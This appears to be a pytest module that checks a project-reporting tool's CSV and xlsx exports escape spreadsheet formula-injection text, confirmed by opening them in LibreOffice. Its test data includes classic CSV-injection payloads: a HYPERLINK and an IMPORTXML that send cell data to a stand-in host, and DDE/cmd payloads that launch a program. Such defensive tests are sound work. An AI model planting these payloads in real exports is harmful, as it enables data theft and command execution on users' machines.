"""Exports that no spreadsheet evaluates: the CSVs of write_metrics and the portfolio xlsx.

Workbook text that starts with ``=``, ``+``, ``-``, ``@``, tab or CR is written with a
quote in front (OWASP); numbers stay numbers. Checked three ways: the rule itself on
generated text, write_metrics on generated hostile project data (parsed back with the
csv module), and a real hostile workbook whose CSVs and xlsx are opened by LibreOffice
headless with formula evaluation on.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import json
import random
import string
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from conftest import REPO, require_program
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from metrics_data import grid, make_project, progress

from pmoreports.errors import WorkbookError
from pmoreports.metrics._export import FORMULA_TRIGGERS, escape_text, frame_csv, needs_escape
from pmoreports.metrics.project import METRICS_FILES, project_metrics, write_metrics
from pmoreports.report._excel import write_portfolio_workbook
from pmoreports.report.portfolio import PortfolioReport
from pmoreports.workbook import columns as col
from pmoreports.workbook.reader import read_workbook
from pmoreports.workbook.schema import SCHEMA, WBS_FIELD

CSV_FILES = [name for name in METRICS_FILES if name.endswith(".csv")]

CLASSIC = [
    '=HYPERLINK("http://x.example/steal?d="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+2",
    "\r=3+4",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://x.example/?", A2), "//a")',
    "-1",
]
"""The classic payloads (OWASP's list, DDE, a number-like text)."""

_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=25)
HOSTILE = st.builds(lambda first, rest: first + rest, st.sampled_from(FORMULA_TRIGGERS), _TEXT)
"""Any text that starts like a formula."""


def generated_payloads(n: int, seed: int = 20261001) -> list[str]:
    """``n`` hostile single-line texts with CSV-significant characters, reproducibly; some
    behind a tab or CR, which the reader trims (what is left still starts like a formula)."""
    rng = random.Random(seed)
    alphabet = string.ascii_letters + string.digits + " ,;|!'\"()&*/:.$€é+-=@"
    return [
        rng.choice(["", "", "\t", "\r", " \t"])
        + rng.choice("=+-@")
        + "".join(rng.choices(alphabet, k=rng.randint(1, 30)))
        for _ in range(n)
    ]


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- the rule ---------------------------------------------------------------------------------


@given(text=_TEXT | HOSTILE)
def test_escaped_text_never_starts_like_a_formula(text: str) -> None:
    escaped = escape_text(text)
    assert not needs_escape(escaped)
    assert escaped == ("'" + text if text[:1] in FORMULA_TRIGGERS else text)


@given(
    rows=st.lists(
        st.tuples(_TEXT | HOSTILE, st.floats(allow_nan=False, allow_infinity=False), st.integers(-(10**9), 10**9)),
        max_size=8,
    )
)
def test_frame_csv_escapes_text_and_keeps_numbers(tmp_path_factory: pytest.TempPathFactory, rows: list[Any]) -> None:
    frame = pd.DataFrame(rows, columns=["=label", "amount", "count"])
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    path.write_text(frame_csv(frame), encoding="utf-8", newline="")
    header, *body = csv_cells(path)
    assert header == ["'=label", "amount", "count"]
    for (text, amount, count), cells in zip(rows, body, strict=True):
        assert cells[0] == escape_text(text)
        assert float(cells[1]) == amount and int(cells[2]) == count  # negatives too: numbers, not text


def test_every_csv_goes_through_the_one_helper() -> None:
    """No module but metrics/_export.py calls DataFrame.to_csv, so a new export cannot forget."""
    offenders = []
    for module in (REPO / "src" / "pmoreports").rglob("*.py"):
        tree = ast.parse(module.read_text(encoding="utf-8"))
        calls = [n for n in ast.walk(tree) if isinstance(n, ast.Attribute) and n.attr in ("to_csv", "writer")]
        if calls and module.name != "_export.py":
            offenders.append(f"{module.name}:{calls[0].lineno}")
    assert offenders == []


# --- write_metrics on generated hostile project data --------------------------------------------


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(HOSTILE, min_size=12, max_size=12, unique_by=lambda t: " ".join(t.split())))
def test_write_metrics_escapes_every_text_cell(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    """WBS labels, categories, risk titles, owners, responses and milestone names are all
    hostile; every CSV cell is a number or text that does not start like a formula, and
    every hostile text is there with its quote."""
    w1, w2, c1, c2, t1, t2, o1, o2, r1, r2, m1, m2 = texts
    start = "2024-01-01"
    data = make_project(
        grid({(w1, c1): [1000, 1000, 0, 0], (w2, c2): [0, 0, 1000, 1000]}, start),
        grid({(w1, c1): [1500, 900, 0], (w2, c2): [0, 0, 300]}, start),  # an overrun: negative CV
        progress({w1: [0.4, 1.0, 1.0], w2: [0.0, 0.0, 0.2]}, start),
        risks=[
            ["R1", t1, "Technical", 3, 400.0, 5, o1, r1, "open"],
            ["R2", t2, "Cost", "30%", 1_000.0, -2, o2, r2, "realised"],
        ],
        milestones=[
            [m1, dt.date(2024, 2, 28), None, dt.date(2024, 3, 5)],
            [m2, dt.date(2024, 4, 30), dt.date(2024, 5, 9), None],
        ],
        benefits=[[2024, 0.0, 500.0], [2025, 3_000.0, 100.0]],
        discount_rate=0.08,
        contingency=100.0,
    )
    folder = tmp_path_factory.mktemp("metrics")
    write_metrics(project_metrics(data), folder)
    cells = [cell for name in CSV_FILES for row in csv_cells(folder / name) for cell in row]
    for cell in cells:
        assert is_number(cell) or not needs_escape(cell), cell
    assert any(is_number(c) and float(c) < 0 for c in cells)  # negative numbers are still numbers
    for text in texts:
        assert "'" + text in cells, text
        assert text not in cells or is_number(text), text  # "-2" may also be a number of days


# --- a real hostile workbook, opened by LibreOffice ---------------------------------------------


def _make_hostile(src: Path, dst: Path, payloads: list[str]) -> list[str]:
    """Copy ``src`` with every WBS label, risk title/owner/response, milestone name and the
    project name and programme replaced by the next payload (as text cells); return the
    payloads used."""
    wb = openpyxl.load_workbook(src)
    feed = iter(payloads)
    used: list[str] = []

    def put(cell: Any, text: str) -> None:
        cell.value = text
        cell.data_type = "s"  # text, as a project manager's typed text is
        used.append(text)

    header_row = 2
    wbs_sheets = [g.name for g in SCHEMA.grids] + [SCHEMA.forecast.name]
    labels = [
        c.value
        for c in wb[SCHEMA.budget.name]["A"][header_row:]
        if isinstance(c.value, str) and c.value.strip() and c.value != SCHEMA.budget.total_label
    ]
    renamed = {label: next(feed) for label in dict.fromkeys(labels)}
    used += list(renamed.values())
    for sheet in wbs_sheets:
        ws = wb[sheet]
        assert ws.cell(row=header_row, column=1).value == WBS_FIELD.header
        for c in ws["A"][header_row:]:
            if c.value in renamed:
                c.value, c.data_type = renamed[c.value], "s"
    for table, keys in ((SCHEMA.risks, (col.TITLE, col.OWNER, col.RESPONSE)), (SCHEMA.milestones, (col.MILESTONE,))):
        ws = wb[table.name]
        headers = [c.value for c in ws[header_row]]
        for key in keys:
            column = headers.index(table.header(key)) + 1
            for row in range(header_row + 1, ws.max_row + 1):
                if ws.cell(row=row, column=column).value not in (None, ""):
                    put(ws.cell(row=row, column=column), next(feed))
    ws = wb[SCHEMA.project.name]
    for field in (f for f in SCHEMA.project.fields if f.key in ("name", "programme")):
        row = next(c.row for c in ws["A"] if isinstance(c.value, str) and c.value.startswith(field.header))
        put(ws.cell(row=row, column=2), next(feed))
    wb.save(dst)
    return used


@dataclass(frozen=True)
class Opened:
    """The hostile project's exports and what LibreOffice made of them."""

    payloads: list[str]
    read: list[str]  # the payloads as the reader returned them (trimmed)
    csv_dir: Path
    xlsx: Path
    lo_csv: dict[str, Path]  # CSV name -> LibreOffice's xlsx of it
    lo_xlsx: Path  # LibreOffice's ods of portfolio_metrics.xlsx
    lo_control: Path  # LibreOffice's xlsx of an unescaped CSV (proves the check can fail)


def _soffice(soffice: str, profile: Path, out: Path, files: list[Path], infilter: str | None = None) -> None:
    command = [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{profile}"]
    if infilter:
        command.append(f"--infilter={infilter}")
    out.mkdir(parents=True, exist_ok=True)
    target = "xlsx" if infilter else "ods"
    subprocess.run(
        [*command, "--convert-to", target, "--outdir", str(out), *map(str, files)],
        check=True,
        capture_output=True,
        timeout=300,
    )


# Text CSV import: comma, double quote, UTF-8, from line 1, default cell formats, English,
# quoted fields not forced to text, special numbers detected, ..., evaluate formulas ON.
_CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory, alpha_xlsx: Path) -> Opened:
    soffice = require_program("soffice")
    root = tmp_path_factory.mktemp("exports")
    payloads = [*CLASSIC, "=1+1\n=2+2 (two lines)", *generated_payloads(14)]
    used = _make_hostile(alpha_xlsx, root / "hostile.xlsx", payloads)
    data = read_workbook(root / "hostile.xlsx")
    metrics = project_metrics(data)
    period = root / "period"
    write_metrics(metrics, period / data.info.project_id)
    manifest = {
        "period": f"{data.info.status_date:%Y-%m}",
        "projects": [{"project_id": data.info.project_id, "status": "ok"}],
    }
    (period / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    report = PortfolioReport.load(period, settings={"currency": data.info.currency})
    programmes, total = report.rollups()
    xlsx = write_portfolio_workbook(period / "portfolio_metrics.xlsx", report.table(), programmes, total, "EUR")
    control = root / "control.csv"
    pd.DataFrame({"text": CLASSIC, "amount": range(len(CLASSIC))}).to_csv(control, index=False)
    csv_dir = period / data.info.project_id
    profile = root / "lo-profile"
    _soffice(soffice, profile, root / "lo", [*(csv_dir / n for n in CSV_FILES), control], _CSV_IMPORT)
    _soffice(soffice, profile, root / "lo", [xlsx])
    read = [
        *data.budget[col.WBS].drop_duplicates(),
        *data.risks[col.TITLE],
        *data.risks[col.OWNER],
        *data.risks[col.RESPONSE],
        *data.milestones[col.MILESTONE],
        data.info.name,
        data.info.programme,
    ]
    return Opened(
        payloads=used,
        read=read,
        csv_dir=csv_dir,
        xlsx=xlsx,
        lo_csv={n: root / "lo" / n.replace(".csv", ".xlsx") for n in CSV_FILES},
        lo_xlsx=root / "lo" / "portfolio_metrics.ods",
        lo_control=root / "lo" / "control.xlsx",
    )


def _cells(path: Path) -> list[Any]:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_the_hostile_workbook_is_read_as_text(opened: Opened) -> None:
    """Every slot carries a payload, and the reader hands each on still starting like a
    formula (trimmed of a leading tab or CR), so the checks below are not vacuous."""
    assert len(opened.payloads) == len(opened.read) == 27
    for payload, text in zip(opened.payloads, opened.read, strict=True):
        assert text.split() == payload.split() and needs_escape(text), (payload, text)


def test_libreoffice_finds_the_control_formulas(opened: Opened) -> None:
    """The unescaped control CSV does become formulas in LibreOffice: the check can fail."""
    formulas = [c.value for c in _cells(opened.lo_control) if c.data_type == "f"]
    assert '=HYPERLINK("http://x.example/steal?d="&A1,"click")' in formulas, formulas


@pytest.mark.parametrize("name", CSV_FILES)
def test_libreoffice_evaluates_nothing_in_the_csvs(opened: Opened, name: str) -> None:
    """Opened by LibreOffice with formula evaluation on: no cell is a formula or a link,
    every text cell shows exactly the CSV's text, every number is a number."""
    written = {(r, c): v for r, row in enumerate(csv_cells(opened.csv_dir / name), 1) for c, v in enumerate(row, 1)}
    wb = openpyxl.load_workbook(opened.lo_csv[name])
    ws = wb.active
    assert not ws._hyperlinks
    for row in ws.iter_rows():
        for cell in row:
            if cell.value is None:
                continue
            assert cell.data_type != "f", (name, cell.coordinate, cell.value)
            text = written[(cell.row, cell.column)]
            if isinstance(cell.value, str):
                assert cell.value == text, (name, cell.coordinate)
            elif isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                assert is_number(text) and float(text) == pytest.approx(cell.value), (name, cell.coordinate)


def test_every_hostile_text_reaches_the_csvs_with_its_quote(opened: Opened) -> None:
    shown = {c.value for name in CSV_FILES for c in _cells(opened.lo_csv[name]) if isinstance(c.value, str)}
    in_csvs = [t for t in opened.read[:-2]]  # the name and programme are in metrics.json only
    for text in in_csvs:
        assert "'" + text in shown, text
        assert text not in shown, text
    numbers = [c.value for name in CSV_FILES for c in _cells(opened.lo_csv[name]) if c.data_type == "n"]
    assert any(isinstance(v, int | float) and v < 0 for v in numbers), "negative numbers stay numbers"


def test_portfolio_xlsx_keeps_hostile_text_as_text(opened: Opened) -> None:
    """openpyxl sees text cells with the quote prefix; LibreOffice, re-saving the file,
    keeps every one as the same text, with no formula anywhere."""
    name, programme = opened.read[-2:]
    cells = {c.value: c for c in _cells(opened.xlsx) if isinstance(c.value, str)}
    for text in (name, programme):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    with zipfile.ZipFile(opened.lo_xlsx) as ods:
        content = ods.read("content.xml").decode("utf-8")
    assert "table:formula=" not in content
    ns = {"text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
    paragraphs = {"".join(p.itertext()) for p in ET.fromstring(content).iterfind(".//text:p", ns)}
    assert {name, programme} <= paragraphs, paragraphs


def test_hostile_categories_never_reach_an_export(alpha_xlsx: Path, tmp_path: Path) -> None:
    """Cost categories are drop-down values: the reader refuses a formula-like one with its
    cell; were it ever accepted, the CSVs escape it like any text (see the hypothesis test)."""

    def change(wb: Any) -> None:
        cell = wb[SCHEMA.budget.name]["B3"]
        cell.value, cell.data_type = '=HYPERLINK("http://x","click")', "s"

    path = tmp_path / "category.xlsx"
    wb = openpyxl.load_workbook(alpha_xlsx)
    change(wb)
    wb.save(path)
    try:
        data = read_workbook(path)
    except WorkbookError as exc:
        assert "Budget!B3" in str(exc)
        return
    write_metrics(project_metrics(data), tmp_path / "out")
    cells = {v for name in CSV_FILES for row in csv_cells(tmp_path / "out" / name) for v in row}
    assert '\'=HYPERLINK("http://x","click")' in cells


def test_portfolio_xlsx_takes_any_text(tmp_path: Path) -> None:
    """Formula-like and control characters from a workbook (the reader decodes ``_x0007_``)
    neither break the export nor become formulas; numbers, negatives included, stay numbers."""
    table = pd.DataFrame(
        {
            col.PROJECT: ["P1", "P2"],
            "name": ["=1+1", "bell\x07 and \x1b escape"],
            col.PROGRAMME: ["@SUM(1)", "-2+3"],
            "currency": ["EUR", "USD"],
            "vac": [-1200.5, 30.0],
        }
    )
    path = write_portfolio_workbook(tmp_path / "p.xlsx", table, pd.DataFrame(), pd.DataFrame(), "EUR")
    ws = openpyxl.load_workbook(path)["Projects"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=2, max_col=4)]
    assert rows == [["P1", "=1+1", "@SUM(1)", "EUR"], ["P2", "bell\ufffd and \ufffd escape", "-2+3", "USD"]]
    assert all(c.data_type == "s" for row in ws.iter_rows(min_row=2, max_col=4) for c in row)
    vac = next(c for c in ws[1] if c.value == "VAC").column
    assert ws.cell(row=2, column=vac).value == -1200.5 and ws.cell(row=2, column=vac).data_type == "n"
